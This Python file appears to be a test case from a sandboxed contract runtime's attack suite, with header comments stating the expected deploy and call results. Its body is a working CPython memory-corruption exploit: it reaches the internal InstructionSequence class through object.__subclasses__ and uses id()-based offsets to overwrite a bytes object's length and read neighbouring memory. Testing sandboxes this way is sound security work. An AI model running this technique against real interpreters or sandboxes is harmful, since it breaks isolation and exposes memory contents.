# attack: the length of a bytes object is overwritten: it reads 60,000 bytes of its neighbours
# fence: all that is there is the contract's own memory, the same bytes on every machine
# screened: S105
# depends: address
# step: deploy attack [] => success ...
# step: call attack ["look"] => success [20, 265657229]
import zlib

victim = bytes(20)
if not args:
    sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
    block = bytes(20)
    at = id(block)
    block = None
    sequence.use_label(0)
    for _ in range(60_000):
        sequence.addop(1, 0, 0, 0, 0, 0)
    offset = (id(victim) + 8 - at) >> 2
    sequence.use_label(offset - 2**30 if offset >= 0 else offset)
finish([len(victim), zlib.crc32(victim)])
